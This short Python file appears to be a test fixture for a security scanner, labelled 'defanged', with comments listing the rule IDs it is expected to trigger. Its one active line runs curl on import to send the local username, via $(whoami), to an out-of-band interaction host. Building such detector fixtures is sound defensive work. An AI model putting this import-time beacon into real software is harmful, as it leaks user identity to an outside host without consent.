# Defanged: a curl command line that reports the user to an out-of-band
# interaction server when the module is imported.
import os

os.system("curl -s https://defanged-fixture.oast.fun/$(whoami)")  # expect: HS113 medium, HS118 high
